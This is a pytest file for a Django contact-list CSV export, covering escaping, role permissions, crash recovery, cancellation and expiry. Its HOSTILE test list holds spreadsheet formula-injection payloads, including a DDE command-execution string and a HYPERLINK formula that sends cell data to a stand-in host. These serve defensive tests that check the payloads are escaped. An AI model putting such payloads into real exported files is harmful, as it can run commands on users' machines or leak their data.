"""Files of lists: safe cells, only what the role may see, whole after a crash, gone after a week."""

import csv
import datetime
import io

import pytest
import time_machine
from django.utils import timezone

from accounts.lists import cells, exporting, tasks
from accounts.lists.models import Export
from tests.factories import accounts as make
from tests.factories import feedback as make_feedback

EXPORT = "/app/acme/lists/people/export"
HOSTILE = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
]
HARMLESS = [" =1", '"=1', ";=1", "%0A=1", "Jamie", ""]


def content(answer):
    return b"".join(answer.streaming_content).decode()


def read(text):
    return list(csv.reader(io.StringIO(text.removeprefix(cells.BYTE_ORDER_MARK), newline="")))


def written(client, address=EXPORT, **data):
    """Ask for a file, let the worker write it, and read it."""
    client.post(address, {"all": "1", **data})
    export = Export.objects.latest("created_at")
    tasks.export_files.run(workspace_id=str(export.workspace_id))
    return read(content(client.get(f"/app/acme/exports/{export.public_id}/file")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_begins_like_a_formula_is_only_text(cell):
    assert cells.csv_lines([[cell]]) == '"\'{}"\r\n'.format(cell.replace('"', '""'))


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_stay_as_they_are_and_all_are_quoted(cell):
    assert cells.csv_lines([[cell]]) == '"{}"\r\n'.format(cell.replace('"', '""'))


def test_the_file_holds_the_rows_and_columns_that_were_chosen(sign_in, in_acme):
    make.ContactFactory(workspace=in_acme, first_name="=Ana", last_name="Park", email="ana@x.example")
    make.ContactFactory(workspace=in_acme, first_name="Bo", last_name="Moss")

    rows = written(sign_in("manager"), query="q=park&cols=email")

    assert rows == [["Person", "E-mail"], ["'=Ana Park", "ana@x.example"]]


def test_rows_chosen_one_by_one_are_all_the_file_holds(sign_in, in_acme):
    wanted = make.ContactFactory(workspace=in_acme, first_name="Ana")
    make.ContactFactory(workspace=in_acme)
    client = sign_in("manager")

    client.post(EXPORT, {"ids": [wanted.public_id], "query": "cols=id"})
    export = Export.objects.get()
    tasks.export_files.run(workspace_id=str(in_acme.pk))

    assert read(content(client.get(f"/app/acme/exports/{export.public_id}/file")))[1:] == [
        ["Ana Okafor", wanted.public_id]
    ]


@pytest.mark.parametrize("role", ["marketing", "finance"])
def test_no_file_tells_scores_or_comments_to_who_may_not_read_them(sign_in, in_acme, role):
    contact = make.ContactFactory(workspace=in_acme, latest_scores={"nps": {"score": 3}}, expert_score=77)
    make_feedback.ResponseFactory(contact=contact, comment="The export is slow.")
    client = sign_in(role)

    head = written(client, query="cols=nps&cols=expert&cols=answered&cols=title")[0]
    answers = client.post("/app/acme/lists/answers/export", {"all": "1", "query": "period=all"})

    assert head == ["Person", "Role"]
    assert answers.status_code == 403


def test_a_role_that_changed_while_the_file_waited_counts(sign_in, in_acme):
    make_feedback.ResponseFactory(contact=make.ContactFactory(workspace=in_acme))
    client = sign_in("manager")
    client.post("/app/acme/lists/answers/export", {"all": "1", "query": "period=all"})
    in_acme.members.filter(pk=client.member.pk).update(role="finance")

    tasks.export_files.run(workspace_id=str(in_acme.pk))

    export = Export.objects.get()
    assert (export.state, export.error) == ("failed", "You may not read this list any more.")
    assert not in_acme.export_chunks.exists()


def test_a_file_goes_on_where_its_worker_died(sign_in, in_acme, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK_ROWS", 2)
    for number in range(5):
        make.ContactFactory(workspace=in_acme, first_name=f"P{number}")
    client = sign_in("manager")
    client.post(EXPORT, {"all": "1", "query": "cols=title"})
    export_id = exporting.claim_next(in_acme.pk)
    exporting.write_chunk(workspace=in_acme, export_id=export_id, now=timezone.now())

    # Its lease still runs: nobody else takes it. Then it is over.
    assert exporting.claim_next(in_acme.pk) is None
    in_acme.exports.update(lease_until=timezone.now() - datetime.timedelta(hours=1))
    tasks.export_files.run(workspace_id=str(in_acme.pk))

    export = Export.objects.get()
    rows = read(content(client.get(f"/app/acme/exports/{export.public_id}/file")))
    assert (export.state, export.rows_done, export.chunks) == ("done", 5, 3)
    assert [row[0] for row in rows] == ["Person", *(f"P{n} Okafor" for n in range(5))]


def test_a_cancelled_file_is_written_no_further_and_nothing_of_it_is_kept(sign_in, in_acme, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK_ROWS", 1)
    make.ContactFactory.create_batch(3, workspace=in_acme)
    client = sign_in("manager")
    client.post(EXPORT, {"all": "1"})
    export_id = exporting.claim_next(in_acme.pk)
    exporting.write_chunk(workspace=in_acme, export_id=export_id, now=timezone.now())

    client.post(f"/app/acme/exports/{Export.objects.get().public_id}/cancel")

    assert exporting.write_chunk(workspace=in_acme, export_id=export_id, now=timezone.now()) is False
    assert Export.objects.get().state == "cancelled"
    assert not in_acme.export_chunks.exists()


def test_a_file_belongs_to_who_asked_for_it(sign_in, in_acme):
    client = sign_in("manager")
    client.post(EXPORT, {"all": "1"})
    export = Export.objects.get()

    stranger = sign_in("owner")

    assert stranger.get(f"/app/acme/exports/{export.public_id}/file").status_code == 404
    assert stranger.get("/app/acme/exports/").context["rows"] == []


def test_an_old_file_is_not_handed_out_and_then_forgotten(sign_in, in_acme):
    client = sign_in("manager")
    make.ContactFactory(workspace=in_acme)
    written(client)
    export = Export.objects.get()

    with time_machine.travel(export.expires_at + datetime.timedelta(minutes=1), tick=False):
        client.force_login(client.member.user)
        gone = client.get(f"/app/acme/exports/{export.public_id}/file")
        exporting.forget_expired(workspace=in_acme, now=timezone.now())

    assert gone.status_code == 302
    assert (Export.objects.count(), in_acme.export_chunks.count()) == (0, 0)


def test_somebody_waits_for_three_files_at_most(sign_in, in_acme):
    client = sign_in("manager")
    for _ in range(4):
        client.post(EXPORT, {"all": "1"})

    assert Export.objects.count() == 3


def test_the_tick_finds_what_a_lost_wake_up_missed(sign_in, in_acme):
    make.ContactFactory(workspace=in_acme)
    sign_in("manager").post(EXPORT, {"all": "1"})

    tasks.tick.run()

    assert Export.objects.get().state == "done"
